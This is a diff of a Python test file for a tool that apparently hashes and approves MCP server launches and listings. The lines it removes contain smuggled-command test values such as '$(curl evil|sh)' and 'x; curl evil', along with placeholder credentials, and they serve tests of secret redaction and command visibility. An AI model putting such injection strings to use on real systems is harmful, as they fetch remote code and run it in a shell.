@@ -1,31 +1,27 @@
-"""What can be approved of a server, as the ledger keeps it and as a person sees it, and its hash."""
+"""What a server says and lists, as it can be approved: documents and their hashes."""
 
 import json
-from collections.abc import Mapping, Sequence
-from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from support.config.planted_secrets import BY_LOOKS, BY_PLACE, NUMBERS, SECRET
 
 from quarterdeck.ledger.events.events import Subject
 from quarterdeck.ledger.events.fold import ItemKey
 from quarterdeck.trust.judge.documents import (
     Document,
-    Launch,
+    ServerLists,
+    capabilities_document,
+    documents_of,
     hash_of,
     instructions_document,
-    launch_of,
-    redacted_launch,
-    revealed,
-    stands_in,
+    offered_document,
     tool_document,
     value_of,
 )
-from quarterdeck_protocol.configs import SseServerConfig, StdioServerConfig, StreamableHttpServerConfig, TrustMode
 from quarterdeck_protocol.contract import RemoteTool
 from quarterdeck_protocol.names import RemoteToolRef
+from quarterdeck_protocol.offers import Listing, Offered
 from quarterdeck_protocol.tools import ToolDescriptor
 
 JSON = st.recursive(
@@ -105,238 +101,45 @@ def test_half_a_character_in_instructions_is_kept_as_an_escape() -> None:
     assert value_of(instructions_document("a\ud800b").body) == "a\\ud800b"
 
 
-KEY = b"the key beside the ledger"
+def offered(listing: Listing, definition: bytes) -> Document:
+    return offered_document(Offered("s", listing, "k", definition, "k"))
 
 
-def stdio(**fields: Any) -> Document:
-    """The launch of a process as the program itself would configure it."""
-    return launch_of(StdioServerConfig(**{"id": "s", "command": "npx", **fields})).document
+@pytest.mark.parametrize("member", ["name", "title", "description", "arguments", "uri", "mimeType", "icons", "_meta"])
+@pytest.mark.parametrize("listing", [Listing.PROMPTS, Listing.RESOURCES, Listing.TEMPLATES])
+def test_every_member_of_what_else_is_listed_counts(listing: Listing, member: str) -> None:
+    """A server could change what a model reads in a prompt's arguments, and nobody would be asked."""
+    assert offered(listing, b'{"x":1}').hash != offered(listing, b'{"x":1,"%s":"a"}' % member.encode()).hash
 
 
-def written(row: Mapping[str, object]) -> Any:
-    """What is kept of the launch of a row in a file."""
-    config = StdioServerConfig(id="s", command="npx") if "command" in row else SseServerConfig(id="s", url="http://h/")
-    return value_of(launch_of(config, row).document.body)
+def test_what_a_resource_says_of_its_contents_does_not_count() -> None:
+    """Each note that somebody writes would have to be approved."""
+    plain = b'{"uri":"a:b","annotations":{"audience":["user"]}}'
+    sized = b'{"uri":"a:b","size":17,"annotations":{"audience":["user"],"lastModified":"2026-01-02"}}'
+    one, other = offered(Listing.RESOURCES, plain), offered(Listing.RESOURCES, sized)
+    assert one.hash == other.hash == hash_of(other.body)
+    assert offered(Listing.PROMPTS, b'{"name":"k","size":1}').hash != offered(Listing.PROMPTS, b'{"name":"k"}').hash
+    assert offered(Listing.RESOURCES, b'["size"]').body == b'["size"]'
 
 
-@pytest.mark.parametrize(
-    "changed",
-    [
-        {"command": "node"},
-        {"args": ["-y", "evil"]},
-        {"cwd": "/elsewhere"},
-        {"env": {"TOKEN": "x", "NODE_OPTIONS": "x"}},
-        {"inherit_env": ["HOME"]},
-        {"sandbox": {"preset": "trusted"}},
-        {"envFile": "other.env"},
-    ],
-)
-def test_every_way_to_run_something_else_is_another_launch(changed: dict[str, object]) -> None:
-    """A changed configuration file would run what nobody approved."""
-    row: dict[str, object] = {"command": "npx", "args": ["-y", "good"], "env": {"TOKEN": "x"}}
-    config = StdioServerConfig(id="s", command="npx")
-    assert launch_of(config, row).document.hash != launch_of(config, row | changed).document.hash
+def test_how_a_server_tells_of_changes_is_no_capability_and_what_it_has_is() -> None:
+    """A server that is spoken to in another era would be held; or one that begins to offer prompts would not."""
+    older = capabilities_document(b'{"prompts":{"listChanged":true},"resources":{"subscribe":true}}')
+    newer = capabilities_document(b'{"resources":{},"prompts":{"listChanged":false}}')
+    assert (older.key, older.hash) == (ItemKey(Subject.CAPABILITIES), newer.hash)
+    assert capabilities_document(b'{"resources":{},"prompts":{},"completions":{}}').hash != newer.hash
+    assert capabilities_document(b'{"resources":{"x":1},"prompts":{}}').hash != newer.hash
+    assert capabilities_document(b"[1]").hash == capabilities_document(b"{}").hash
 
 
-@pytest.mark.parametrize("changed", [{"url": "https://evil.example/mcp"}, {"headers": {"X-A": "1", "X-B": "1"}}])
-def test_every_way_to_reach_something_else_is_another_launch(changed: dict[str, object]) -> None:
-    """A changed configuration file would send a user's data elsewhere."""
-    row: dict[str, object] = {"url": "https://good.example/mcp", "headers": {"X-A": "1"}}
-    config = SseServerConfig(id="s", url="https://good.example/mcp")
-    assert launch_of(config, row).document.hash != launch_of(config, row | changed).document.hash
-
-
-def test_a_forced_revision_is_part_of_a_launch_and_its_absence_is_as_it_was() -> None:
-    """What a server is spoken to in would change unseen, or every launch that was approved before be held."""
-    row = {"command": "npx"}
-    forced = StdioServerConfig(id="s", command="npx", protocol="2025-11-25")
-    free = StdioServerConfig(id="s", command="npx")
-    assert value_of(launch_of(forced, row).document.body) == {**written(row), "protocol": "2025-11-25"}
-    assert "protocol" not in written(row)
-    assert launch_of(forced, row).document.hash != launch_of(free, row).document.hash
-
-
-def test_another_transport_is_another_launch() -> None:
-    """The same URL, spoken to in another way, would pass unseen."""
-    kinds = (SseServerConfig, StreamableHttpServerConfig)
-    assert len({launch_of(kind(id="s", url="https://h/")).document.hash for kind in kinds}) == 2
-
-
-def test_values_of_variables_and_headers_are_nobodys_business() -> None:
-    """A secret would lie in the ledger for good."""
-    row = {"command": "npx", "env": {"B_TOKEN": "hunter2", "A": "${A}"}}
-    assert written(row)["env"] == ["A", "B_TOKEN"]
-    assert written({"url": "http://h/", "headers": {"Authorization": "NameOwner hunter2"}})["headers"] == [
-        "Authorization"
-    ]
-    assert stdio(env={"A": "one"}).hash == stdio(env={"A": "two"}).hash
-
-
-@pytest.mark.parametrize(
-    "args",
-    [
-        ["--api-key", "hunter2"],
-        ["--api-key=hunter2"],
-        ["--db_password", "hunter2"],
-        ["-token=hunter2"],
-        ["sk-hunter2hunter2"],
-        ["https://user:hunter2@h.example/"],
-        ["https://h.example/?a=1&api_key=hunter2&b=2"],
-        ["-e", "GITHUB_TOKEN=hunter2"],
-        ["--env=API_KEY=hunter2"],
-        ["--header", "Authorization: NameOwner hunter2hunter2"],
-    ],
-)
-def test_a_literal_secret_among_the_arguments_is_replaced(args: list[str]) -> None:
-    """A secret would lie in the ledger for good; and a changed one would not be noticed."""
-    kept, changed = (stdio(args=[each.replace("hunter2", word) for each in args]) for word in ("hunter2", "hunter3"))
-    assert b"hunter2" not in kept.body
-    assert kept.hash != changed.hash
-
-
-def test_a_reference_to_a_secret_is_shown_as_it_is() -> None:
-    """A user who approves a command line would see a riddle in place of the variable's name."""
-    row = {"command": "npx", "args": ["--token", "${TOKEN}", "--key=${KEY:-none}", "https://h/?token=${T}"]}
-    assert written(row)["args"] == row["args"]
-    assert written({"url": "https://h/?api_key=${KEY}"})["url"] == "https://h/?api_key=${KEY}"
-
-
-def test_arguments_that_are_no_secrets_are_shown_as_they_are() -> None:
-    """A user could not tell what would be run."""
-    args = ["-y", "@scope/server@1.2.3", "--port", "8080", "/home/me/notes", "https://h/?page=2"]
-    assert written({"command": "npx", "args": args})["args"] == args
-
-
-@pytest.mark.parametrize("piece", ["token", "://a:", "?key", "a=", "--", ":"])
-def test_a_strangers_file_cannot_keep_us_busy(piece: str) -> None:
-    """A directory that a user merely enters would hang every command."""
-    assert len(written({"command": "npx", "args": [piece * 200_000]})["args"]) == 1
-
-
-@given(st.dictionaries(st.sampled_from(["command", "args", "env", "cwd", "sandbox", "url", "headers", "trust"]), JSON))
-def test_whatever_a_row_holds_has_a_launch(row: dict[str, object]) -> None:
-    """A row that a loader refuses later would end the supervisor first."""
-    for config in (StdioServerConfig(id="s", command="x"), SseServerConfig(id="s", url="http://h/")):
-        assert len(launch_of(config, row).document.hash) == 64
-
-
-def test_the_trust_that_counts_is_part_of_a_launch_wherever_the_file_says_it() -> None:
-    """A row could be opened from the top of its file, and what is held would be offered."""
-    config = StdioServerConfig(id="s", command="npx")
-    opened = config.model_copy(update={"trust": TrustMode.OPEN})
-    assert launch_of(config, {"command": "npx"}).document.hash != launch_of(opened, {"command": "npx"}).document.hash
-
-
-def launch(args: Sequence[str] = (), key: bytes = KEY, *, is_project: bool = False, **members: object) -> Launch:
-    """The launch of a row in a file."""
-    row = {"command": "npx", "args": list(args), **members}
-    return launch_of(StdioServerConfig(id="s", command="npx"), row, key, is_project=is_project)
-
-
-@pytest.mark.parametrize("args", [*BY_PLACE, *NUMBERS, *((secret,) for secret in BY_LOOKS)], ids=" ".join)
-@pytest.mark.parametrize("is_project", [False, True])
-def test_no_planted_secret_is_kept(args: tuple[str, ...], is_project: bool) -> None:
-    """It would lie in the ledger for good, and a changed one would not be noticed."""
-    kept = launch(args, is_project=is_project)
-    planted = [secret for secret in (SECRET, "94123456", *BY_LOOKS) if any(secret in arg for arg in args)]
-    assert planted
-    for secret in planted:
-        assert secret.encode() not in kept.document.body
-        assert json.dumps(secret)[1:-1].encode() not in kept.document.body
-        changed = [arg.replace(secret, f"{secret[:-1]}{'0' if secret[-1] != '0' else '1'}") for arg in args]
-        assert launch(changed, is_project=is_project).document.hash != kept.document.hash
-    assert kept.document.hash != launch(args, b"another key", is_project=is_project).document.hash
-
-
-def test_a_strangers_values_are_kept_hidden_and_shown_whole() -> None:
-    """A project's password would lie in the ledger; or something that runs could hide behind the name of one."""
-    row = {"env": {"API_KEY": SECRET, "PATH": "/evil"}, "cwd": f"/x?token={SECRET}"}
-    found = launch(["--token", "x; curl evil"], is_project=True, **row)
-    kept, shown = value_of(found.document.body), value_of(found.shown)
-    assert isinstance(kept, dict)
-    assert isinstance(shown, dict)
-    assert kept["env"]["PATH"] == "/evil"
-    assert kept["env"]["API_KEY"].startswith("(secret ")
-    assert shown["env"] == row["env"]
-    assert shown["args"] == ["--token", "x; curl evil"]
-    remote = launch_of(SseServerConfig(id="s", url="http://h/"), {"headers": {"X": SECRET}}, KEY, is_project=True)
-    assert SECRET.encode() not in remote.document.body
-    assert SECRET.encode() in remote.shown
-
-
-def test_what_could_be_a_command_is_shown_to_who_decides() -> None:
-    """Whoever may write a user's file would hide what runs behind the name of a secret."""
-    found = launch(["--token", "$(curl evil|sh)", "--key", SECRET])
-    assert b"$(curl evil|sh)" in found.shown
-    assert SECRET.encode() not in found.shown
-    assert b"curl evil" not in found.document.body
-
-
-OLD_FORMS = (
-    (["--api-key", SECRET], ["--api-key", "{0}"]),
-    (["--key", SECRET], ["--key", SECRET]),
-    (["--tokenizer", "gpt2"], ["--tokenizer", "(secret {gpt2})"]),
-    ([f"https://u:{SECRET}@h/?api_key={SECRET}"], ["https://u:{0}@h/?api_key={0}"]),
-    (["--header", f"Authorization: NameOwner {SECRET}"], ["--header", "Authorization: NameOwner {0}"]),
-    (["--pwd", f"a {SECRET}"], ["--pwd", f"a {SECRET}"]),
-)
-
-
-@pytest.mark.parametrize(("args", "kept"), OLD_FORMS, ids=" ".join)
-def test_a_launch_that_older_rules_hid_in_another_way_is_recognised(args: list[str], kept: list[str]) -> None:
-    """After an update every server with a secret in its command line would be held."""
-    stand_in = stands_in(KEY)
-    old = [each.replace("{0}", stand_in(SECRET)).replace("(secret {gpt2})", stand_in("gpt2")) for each in kept]
-    body = json.dumps({"transport": "stdio", "command": "npx", "args": old, "env": [], "trust": "baseline"}).encode()
-    assert launch(args).is_described_by(body)
-    assert not launch([*args[:-1], f"{args[-1]}x"]).is_described_by(body)
-    assert launch(args, b"another key").is_described_by(body) is (old == args)
-    assert launch(args).compared(body) == value_of(launch(args).shown)
-    assert launch(args).is_described_by(redacted_launch(body, KEY))
-
-
-def test_a_strangers_launch_that_was_kept_in_clear_is_recognised() -> None:
-    """Approved projects would be held after an update."""
-    row = {"env": {"API_KEY": SECRET}, "cwd": "/x"}
-    found = launch(["--pass", SECRET], is_project=True, **row)
-    old = found.shown
-    assert SECRET.encode() in old
-    assert found.is_described_by(old)
-    redacted = redacted_launch(old, KEY)
-    assert SECRET.encode() not in redacted
-    assert found.is_described_by(redacted)
-    other = launch(["--pass", SECRET], is_project=True, env={"API_KEY": "other"}, cwd="/x")
-    assert not other.is_described_by(old)
-    assert not other.is_described_by(redacted)
-
-
-def test_a_stand_in_that_somebody_writes_is_no_secret_it_stands_for() -> None:
-    """Who can read a ledger could write a row that passes for the approved one."""
-    approved = launch(["--token", SECRET])
-    forged = launch(["--token", stands_in(KEY)(SECRET)])
-    assert forged.document.hash != approved.document.hash
-    assert not forged.is_described_by(approved.document.body)
-    assert not forged.is_described_by(forged.shown)
-
-
-@given(st.lists(st.text("ab=-:/@ (){}\"'", max_size=12), max_size=4), st.booleans())
-def test_a_launch_is_always_described_by_what_is_kept_of_it(args: list[str], is_project: bool) -> None:
-    """Cleaning a ledger, or an update, would hold a server that nobody changed."""
-    found = launch(args, is_project=is_project)
-    assert found.is_described_by(found.document.body)
-    clear = json.dumps(found.clear).encode()
-    assert found.is_described_by(redacted_launch(clear, KEY))
-    assert redacted_launch(redacted_launch(clear, KEY), KEY) == redacted_launch(clear, KEY)
-
-
-def test_what_cannot_be_read_describes_nothing() -> None:
-    """A damaged ledger would end the supervisor."""
-    for body in (None, b"", b"null", b"[]", b"{}", b'{"args": "x"}'):
-        assert not launch(["x"]).is_described_by(body)
-    assert redacted_launch(b"null", KEY) == b"null"
-
-
-def test_a_riddle_of_stand_ins_ends() -> None:
-    """A crafted ledger would hang every command."""
-    stored = "a(secret 000000000000)" * 30
-    assert revealed(stored, "a" * 5_000, "shown", KEY) == stored
+def test_capabilities_wait_for_the_lists_that_they_promise() -> None:
+    """What was slow at the first sight would count as added later."""
+    prompts = (Offered("s", Listing.PROMPTS, "p", b'{"name":"p"}', "p"),)
+    partly = ServerLists(offers={Listing.PROMPTS: prompts}, is_whole=False)
+    wholly = ServerLists(offers={Listing.PROMPTS: prompts})
+    assert [each.key.subject for each in documents_of(partly)] == ["instructions", "prompt"]
+    assert [each.key.subject for each in documents_of(wholly)] == ["instructions", "capabilities", "prompt"]
+    assert partly.unknown == {Subject.CAPABILITIES, Subject.RESOURCE, Subject.TEMPLATE}
+    assert not partly.is_as(wholly)
+    assert wholly.is_as(ServerLists(offers={Listing.PROMPTS: prompts}))
+    assert not wholly.is_as(ServerLists(offers={Listing.PROMPTS: (*prompts,)}))
